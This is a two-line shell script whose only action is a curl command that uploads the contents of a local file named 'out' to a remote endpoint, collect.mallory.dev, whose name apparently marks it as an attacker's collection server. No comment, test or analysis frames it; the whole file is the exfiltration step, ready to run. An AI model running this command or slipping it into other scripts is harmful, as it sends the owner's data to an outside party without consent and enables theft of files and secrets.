#!/bin/sh
curl -d @out https://collect.mallory.dev/x
